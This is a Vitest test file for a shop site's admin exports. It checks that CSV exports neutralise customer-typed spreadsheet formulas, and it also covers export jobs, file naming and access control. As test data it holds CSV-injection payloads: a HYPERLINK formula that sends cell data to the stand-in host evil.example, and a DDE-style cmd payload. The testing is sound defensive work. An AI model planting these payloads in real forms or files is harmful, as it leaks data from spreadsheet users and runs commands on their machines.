import fs from 'node:fs'
import path from 'node:path'

import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'

import { EXPORTS_QUEUE, exportsDir, savedExportFiles, workExportsQueue } from '@/features/admin/exportJobs'
import { sendContactMessage } from '@/features/contact/service'
import { joinEmailList } from '@/features/discounts/signUp'
import { submitOrder } from '@/features/ordering/service'

import { finishedExport, savedExportFile } from '../helpers/exports'
import { validOrderForm } from '../helpers/orders'
import { adminAuthHeader, rest, startPayload, type TestPayload } from '../helpers/payload'
import { startSmtp, type TestSmtp } from '../helpers/smtp'

const ADMIN = { email: 'owner@example.com', password: 'correct-horse-battery' }

/** What a spreadsheet would run as a formula, as customers can type it into the site's forms. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your discount")'
const PLUS = '+1+1'
const MINUS = '-2+3'
const AT_SUM = '@SUM(1+9)*cmd|\' /C calc\'!A0'

/** A cell a spreadsheet shows as typed: nothing at its start makes it a formula. */
const isNeutral = (cell: string) => !/^[=+\-@\t\r]/.test(cell)
/** The text that was stored, read back from a neutral cell. */
const storedText = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell)

type Row = Record<string, string>

/**
 * Every CSV export writes customers' text so that a spreadsheet shows it and never runs it; JSON
 * exports keep the stored values. Records are stored through the site's own forms' services, so
 * everything in them passed the site's validation.
 */
describe('exports hold no live spreadsheet formula', () => {
  let app: TestPayload
  let smtp: TestSmtp
  let admin: Record<string, string>

  /** The records as stored, by collection, for comparing with what the export wrote. */
  const stored: Record<string, Array<Record<string, unknown>>> = {}

  beforeAll(async () => {
    // The orders', sign-ups' and messages' e-mails go to a test SMTP server, not to files under data/.
    smtp = await startSmtp()
    app = await startPayload({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password, SMTP_HOST: '127.0.0.1', SMTP_PORT: String(smtp.port), SMTP_SECURE: 'false' })
    const { payload } = app

    const orders: Array<Record<string, string>> = [
      { fullName: HYPERLINK, email: '+1+1@example.com', phone: '+1 (313) 555-0100', instagram: '@dana', address: MINUS + ' Main St', notes: `${AT_SUM}\nsecond line` },
      { fullName: PLUS, email: '-2+3@example.com', phone: '+1 313 555 0101', instagram: '=cmd', address: '@home, 1 Main St', notes: '=1+1' },
      { fullName: MINUS, email: 'plain@example.com', phone: '313 555 0102', instagram: '-minus', address: HYPERLINK, notes: PLUS },
      { fullName: AT_SUM, email: 'at@example.com', phone: '(313) 555-0103', instagram: '+plus', address: '+1 Main St', notes: MINUS },
    ]
    for (const fields of orders) {
      const placed = await submitOrder(payload, { ...validOrderForm, ...fields })
      if (placed.status !== 'success') throw new Error(`order refused: ${JSON.stringify(placed)}`)
    }

    const subscribers = [
      { name: HYPERLINK, email: '+1+1@example.com' },
      { name: PLUS, email: '-2+3@example.com' },
      { name: MINUS, email: 'minus@example.com' },
      { name: AT_SUM, email: 'at@example.com' },
    ]
    for (const subscriber of subscribers) {
      const joined = await joinEmailList(payload, subscriber)
      if (joined.status !== 'joined') throw new Error(`sign-up refused: ${JSON.stringify(joined)}`)
    }

    const contactMessages = [
      { name: HYPERLINK, email: '+1+1@example.com', phone: '+1 313 555 0100', subject: AT_SUM, message: `${PLUS}\nHello` },
      { name: PLUS, email: '-2+3@example.com', phone: '', subject: HYPERLINK, message: MINUS },
      { name: MINUS, email: 'minus@example.com', phone: '+13135550199', subject: '=1+1', message: HYPERLINK },
      { name: AT_SUM, email: 'at@example.com', phone: '', subject: '-', message: AT_SUM },
    ]
    for (const message of contactMessages) {
      const sent = await sendContactMessage(payload, message)
      if (!sent.ok) throw new Error(`message refused: ${JSON.stringify(sent)}`)
    }

    // The forms trim their fields, so only the seller, editing in the admin, can store a leading
    // tab or carriage return.
    const [firstMessage] = (await payload.find({ collection: 'contact-messages', sort: 'createdAt', limit: 1 })).docs
    await payload.update({ collection: 'contact-messages', id: firstMessage.id, data: { subject: '\t=1+1', message: '\r=2+2' } })

    for (const slug of ['orders', 'email-captures', 'contact-messages'] as const) {
      stored[slug] = (await payload.find({ collection: slug, limit: 100, depth: 0 })).docs as unknown as Array<Record<string, unknown>>
    }
    expect(stored.orders).toHaveLength(orders.length)
    expect(stored['email-captures']).toHaveLength(subscribers.length)
    expect(stored['contact-messages']).toHaveLength(contactMessages.length)

    admin = await adminAuthHeader(app.config, ADMIN.email, ADMIN.password)
  })

  afterAll(async () => {
    await app?.cleanup()
    await smtp?.close()
  })

  const finished = (id: number | string) => finishedExport(app.payload, id)

  /** The admin's Export → Save, as the logged-in seller, then the file once it is ready. */
  const download = async (collectionSlug: string, format: 'csv' | 'json') => (await savedExportFile(app, admin, { collectionSlug, format })).file

  const parseCsv = (text: string): Row[] => parse(text, { bom: true, columns: true, skip_empty_lines: true })

  /** The text fields customers fill in, per collection: each holds formula-looking text above. */
  const TYPED_FIELDS = {
    orders: ['fullName', 'email', 'phone', 'instagram', 'address', 'notes'],
    'email-captures': ['name', 'email'],
    'contact-messages': ['name', 'email', 'phone', 'subject', 'message'],
  } as const

  describe.each(Object.keys(TYPED_FIELDS) as Array<keyof typeof TYPED_FIELDS>)('%s', (slug) => {
    it('CSV: every cell is neutral, and the stored text is otherwise unchanged', async () => {
      const rows = parseCsv(String(await download(slug, 'csv')))
      expect(rows).toHaveLength(stored[slug].length)

      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) expect(isNeutral(cell), `${column}: ${JSON.stringify(cell)}`).toBe(true)

        const record = stored[slug].find((doc) => String(doc.id) === row.id)
        expect(record, `row ${row.id}`).toBeDefined()
        for (const [column, cell] of Object.entries(row)) {
          const value = record?.[column]
          if (typeof value === 'string') expect(storedText(cell), column).toBe(value)
        }
      }

      // The test is only as good as its data: each typed field held at least one formula.
      for (const field of TYPED_FIELDS[slug]) {
        const neutralised = rows.filter((row) => /^'[=+\-@]/.test(row[field] ?? ''))
        expect(neutralised.length, field).toBeGreaterThan(0)
      }
    })

    it('JSON keeps the stored values as they are', async () => {
      const docs = (await download(slug, 'json')) as Array<Record<string, unknown>>
      expect(docs).toHaveLength(stored[slug].length)
      for (const doc of docs) {
        const record = stored[slug].find((candidate) => candidate.id === doc.id)
        for (const field of TYPED_FIELDS[slug]) expect(doc[field], field).toEqual(record?.[field])
      }
      expect(JSON.stringify(docs)).toContain(JSON.stringify(HYPERLINK))
    })
  })

  it("leaves out what only the site uses: an order's status-page secret and its customer keys", async () => {
    const withSecrets = stored.orders.find((order) => order.statusToken)
    expect(withSecrets, 'an order with a status link').toBeDefined()
    const csv = String(await download('orders', 'csv'))
    const [header] = parseCsv(csv).map((row) => Object.keys(row))
    expect(header).toContain('fullName')
    for (const column of ['statusToken', 'customerEmail', 'customerPhone']) expect(header, column).not.toContain(column)
    expect(csv).not.toContain(String(withSecrets?.statusToken))
    const docs = (await download('orders', 'json')) as Array<Record<string, unknown>>
    expect(JSON.stringify(docs)).not.toContain(String(withSecrets?.statusToken))
  })

  it("has an order's Paid on as its instant, without the time zone column Payload keeps beside it (always Detroit)", async () => {
    const [paid] = stored.orders
    await app.payload.db.updateOne({ collection: 'orders', id: paid.id as number, data: { paidAt: '2026-12-05T02:30:00.000Z', paidAt_tz: 'America/Detroit' } })
    try {
      const rows = parseCsv(String(await download('orders', 'csv')))
      expect(Object.keys(rows[0])).toContain('paidAt')
      expect(Object.keys(rows[0])).not.toContain('paidAt_tz')
      expect(rows.find((row) => row.id === String(paid.id))?.paidAt).toBe('2026-12-05T02:30:00.000Z')
      const docs = (await download('orders', 'json')) as Array<Record<string, unknown>>
      const doc = docs.find((candidate) => candidate.id === paid.id)
      expect(doc?.paidAt).toBe('2026-12-05T02:30:00.000Z')
      expect(doc).not.toHaveProperty('paidAt_tz')
    } finally {
      await app.payload.db.updateOne({ collection: 'orders', id: paid.id as number, data: { paidAt: null, paidAt_tz: null } })
    }
  })

  it('carries the delivery day’s record of each order: out of the fridge, handed over, not home, missed pickup e-mailed', async () => {
    const [delivered, missed] = stored.orders
    const record = { leftFridgeAt: '2026-12-05T19:05:00.000Z', handedOverAt: '2026-12-05T19:41:00.000Z', notHomeAt: '2026-12-05T19:30:00.000Z' }
    await app.payload.db.updateOne({ collection: 'orders', id: delivered.id as number, data: record })
    await app.payload.db.updateOne({ collection: 'orders', id: missed.id as number, data: { missedPickupAt: '2026-12-05T23:01:00.000Z' } })
    try {
      const rows = parseCsv(String(await download('orders', 'csv')))
      const columns = ['leftFridgeAt', 'handedOverAt', 'notHomeAt', 'missedPickupAt']
      expect(Object.keys(rows[0])).toEqual(expect.arrayContaining(columns))
      expect(rows.find((row) => row.id === String(delivered.id))).toMatchObject({ ...record, missedPickupAt: '' })
      expect(rows.find((row) => row.id === String(missed.id))).toMatchObject({ leftFridgeAt: '', handedOverAt: '', notHomeAt: '', missedPickupAt: '2026-12-05T23:01:00.000Z' })
    } finally {
      await app.payload.db.updateOne({ collection: 'orders', id: delivered.id as number, data: { leftFridgeAt: null, handedOverAt: null, notHomeAt: null } })
      await app.payload.db.updateOne({ collection: 'orders', id: missed.id as number, data: { missedPickupAt: null } })
    }
  })

  it('also for an export the seller saves in the admin, and for a leading tab or carriage return', async () => {
    const user = (await app.payload.find({ collection: 'users', limit: 1 })).docs[0]
    const created = await app.payload.create({
      collection: 'exports',
      data: { collectionSlug: 'contact-messages', format: 'csv', name: `saved-${Date.now()}` },
      user: { ...user, collection: 'users' },
      overrideAccess: false,
    })
    const saved = await finished(created.id)
    try {
      expect(saved.status).toBe('ready')
      const file = await rest(app.config, 'GET', `/exports/file/${saved.filename}`, { headers: admin })
      expect(file.status).toBe(200)
      const rows = parseCsv(String(file.json))
      expect(rows).toHaveLength(stored['contact-messages'].length)
      for (const row of rows) for (const cell of Object.values(row)) expect(isNeutral(cell), JSON.stringify(cell)).toBe(true)
      expect(rows.map((row) => row.subject)).toContain("'\t=1+1")
      expect(rows.map((row) => row.message)).toContain("'\r=2+2")
      expect(rows.map((row) => row.message)).toContain(`'${HYPERLINK}`)
    } finally {
      await app.payload.delete({ collection: 'exports', id: saved.id })
    }
  })

  it('an export saved without a name is named by the seller’s clock, and so is its file', async () => {
    const user = (await app.payload.find({ collection: 'users', limit: 1 })).docs[0]
    // 9:30:05 PM on Nov 29 in Detroit: UTC's date is already Nov 30.
    vi.useFakeTimers({ toFake: ['Date'], now: new Date('2026-11-30T02:30:05Z') })
    let created
    try {
      created = await app.payload.create({ collection: 'exports', data: { collectionSlug: 'contact-messages', format: 'csv' }, user: { ...user, collection: 'users' }, overrideAccess: false })
    } finally {
      vi.useRealTimers()
    }
    const saved = await finished(created.id)
    try {
      expect(saved.name).toBe('2026-11-29_21-30-05')
      expect(saved.filename).toBe('2026-11-29_21-30-05-contact-messages.csv')
    } finally {
      await app.payload.delete({ collection: 'exports', id: saved.id })
    }
  })

  describe('saved exports are made in the background', () => {
    /** The seller's filter in the orders list: the orders marked paid. */
    const PAID = { paymentStatus: { equals: 'paid' } }
    let paidIds: Array<number | string>

    beforeAll(async () => {
      const paid = stored.orders.filter((order) => order.fullName === HYPERLINK || order.fullName === MINUS)
      for (const order of paid) await app.payload.update({ collection: 'orders', id: order.id as number, data: { paymentStatus: 'paid' } })
      paidIds = paid.map((order) => order.id as number)
    })

    /** The admin's Save in the export drawer: the same request, as the logged-in seller. */
    const save = (data: Record<string, unknown>, headers = admin) => rest(app.config, 'POST', '/exports', { headers, body: { name: `saved-${Date.now()}`, ...data } })

    it('saving answers at once with the export being prepared; the job writes the filtered orders, neutral', async () => {
      const { status, json } = await save({ collectionSlug: 'orders', format: 'csv', where: PAID })
      expect(status).toBe(201)
      const answered = json.doc as { id: number; status: string; filename?: string | null }
      // The answer did not wait for the file.
      expect(answered.status).toBe('preparing')
      expect(answered.filename ?? null).toBeNull()

      const saved = await finished(answered.id)
      expect(saved.status).toBe('ready')
      const file = await rest(app.config, 'GET', `/exports/file/${saved.filename}`, { headers: admin })
      expect(file.status).toBe(200)
      const rows = parseCsv(String(file.json))
      expect(rows.map((row) => Number(row.id)).sort()).toEqual(paidIds.map(Number).sort())
      for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(isNeutral(cell), `${column}: ${JSON.stringify(cell)}`).toBe(true)
      expect(rows.map((row) => row.fullName)).toContain(`'${HYPERLINK}`)
      expect(rows.map((row) => row.fullName)).toContain(`'${MINUS}`)
    })

    it('a file a stopped server left half made is made again by the next round of the queue', async () => {
      const { json } = await save({ collectionSlug: 'orders', format: 'json', where: PAID })
      const id = (json.doc as { id: number }).id
      await finished(id)
      // As the server would have left it: the export without its file, its job marked running long ago.
      await app.payload.db.updateOne({ collection: 'exports', id, data: { status: 'preparing', filename: null, filesize: null, url: null } })
      const lastRun = new Date(Date.now() - 60 * 60 * 1000).toISOString()
      await app.payload.jobs.queue({ task: 'createCollectionExport', queue: EXPORTS_QUEUE, input: { id: String(id), name: `rerun-${id}`, collectionSlug: 'orders', exportCollection: 'exports', format: 'json', where: PAID, userCollection: 'users', userID: String((await app.payload.find({ collection: 'users', limit: 1 })).docs[0].id) } })
      await app.payload.db.updateMany({ collection: 'payload-jobs', where: { queue: { equals: EXPORTS_QUEUE } }, data: { processing: true, updatedAt: lastRun } })
      // Payload alone never runs a job marked running again.
      await app.payload.jobs.run({ queue: EXPORTS_QUEUE })
      expect((await app.payload.findByID({ collection: 'exports', id, depth: 0 })).status).toBe('preparing')

      await workExportsQueue(app.payload)
      const saved = await app.payload.findByID({ collection: 'exports', id, depth: 0 })
      expect(saved.status).toBe('ready')
      const file = await rest(app.config, 'GET', `/exports/file/${saved.filename}`, { headers: admin })
      expect((file.json as unknown as Array<{ id: number }>).map((doc) => doc.id).sort()).toEqual(paidIds.map(Number).sort())
    })

    it("an export named with any characters gets a file name safe in a path and an address, and a second one of that name its own file", async () => {
      const name = "June's orders #1?"
      const first = await finished(((await save({ name, collectionSlug: 'orders', format: 'csv', where: PAID })).json.doc as { id: number }).id)
      const second = await finished(((await save({ name, collectionSlug: 'orders', format: 'csv', where: PAID })).json.doc as { id: number }).id)
      expect(first.filename).toMatch(/^[A-Za-z0-9._-]+\.csv$/)
      expect(second.filename).toMatch(/^[A-Za-z0-9._-]+\.csv$/)
      expect(second.filename).not.toBe(first.filename)
      for (const saved of [first, second]) {
        const file = await rest(app.config, 'GET', `/exports/file/${saved.filename}`, { headers: admin })
        expect(file.status).toBe(200)
        expect(parseCsv(String(file.json)).map((row) => Number(row.id)).sort()).toEqual(paidIds.map(Number).sort())
      }
    })

    it("Operations counts the saved exports' files on the disk: one more with its size once made, one less once deleted, never a half-written one", async () => {
      const before = await savedExportFiles()
      const saved = await finished(((await save({ collectionSlug: 'orders', format: 'csv', where: PAID })).json.doc as { id: number }).id)
      expect(await savedExportFiles()).toEqual({ count: before.count + 1, totalBytes: before.totalBytes + saved.filesize! })
      // A server stopped while writing leaves a file in `.partial`: not one the seller can delete.
      fs.mkdirSync(path.join(exportsDir(), '.partial'), { recursive: true })
      fs.writeFileSync(path.join(exportsDir(), '.partial', 'half-written.csv'), 'id\n1\n')
      expect((await savedExportFiles()).count).toBe(before.count + 1)

      await app.payload.delete({ collection: 'exports', id: saved.id })
      expect(await savedExportFiles()).toEqual(before)
      expect(await savedExportFiles(path.join(exportsDir(), 'no-such-folder'))).toEqual({ count: 0, totalBytes: 0 })
    })

    it('no export is made inside a request any more', async () => {
      const { status } = await rest(app.config, 'POST', '/exports/download', { headers: admin, body: { data: { collectionSlug: 'orders', format: 'csv', name: 'in-request' } } })
      expect(status).toBe(404)
    })

    it('a filter the list cannot run is refused when saving, with the reason', async () => {
      const exportsBefore = (await app.payload.count({ collection: 'exports' })).totalDocs
      const { status, json } = await save({ collectionSlug: 'orders', format: 'csv', where: { noSuchField: { equals: 'x' } } })
      expect(status).toBe(400)
      expect(JSON.stringify(json)).toContain('noSuchField')
      expect((await app.payload.count({ collection: 'exports' })).totalDocs).toBe(exportsBefore)
    })

    it('an export of a collection that does not exist is refused when saving, with the reason', async () => {
      const exportsBefore = (await app.payload.count({ collection: 'exports' })).totalDocs
      const { status, json } = await save({ collectionSlug: 'no-such-collection', format: 'csv' })
      expect(status).toBe(400)
      expect(JSON.stringify(json)).toContain('Collection')
      expect((await app.payload.count({ collection: 'exports' })).totalDocs).toBe(exportsBefore)
    })

    it('an export whose file cannot be made says so', async () => {
      // Made for an account deleted before its job ran: the plugin's task refuses to export for nobody.
      const exported = await app.payload.db.create({ collection: 'exports', data: { name: 'orphan', collectionSlug: 'orders', format: 'csv', status: 'preparing' } })
      await app.payload.jobs.queue({ task: 'createCollectionExport', queue: EXPORTS_QUEUE, input: { id: String(exported.id), name: 'orphan', collectionSlug: 'orders', exportCollection: 'exports', format: 'csv', userCollection: 'users', userID: '999999' } })
      await workExportsQueue(app.payload)
      const saved = await app.payload.findByID({ collection: 'exports', id: exported.id, depth: 0 })
      expect(saved.status).toBe('failed')
      expect(saved.filename ?? null).toBeNull()
    })

    it('only a signed-in seller starts an export, sees it or downloads its file', async () => {
      const { json } = await save({ collectionSlug: 'orders', format: 'csv' })
      const saved = await finished((json.doc as { id: number }).id)
      expect(saved.status).toBe('ready')
      const exportsBefore = (await app.payload.count({ collection: 'exports' })).totalDocs

      expect((await save({ collectionSlug: 'orders', format: 'csv' }, {})).status).toBe(403)
      expect((await rest(app.config, 'GET', `/exports/${saved.id}`)).status).toBe(403)
      expect((await rest(app.config, 'GET', `/exports/file/${saved.filename}`)).status).toBe(403)
      expect((await rest(app.config, 'GET', '/payload-jobs/run')).status).toBe(401)
      expect((await app.payload.count({ collection: 'exports' })).totalDocs).toBe(exportsBefore)
      // The seller does.
      expect((await rest(app.config, 'GET', `/exports/file/${saved.filename}`, { headers: admin })).status).toBe(200)
    })
  })
})
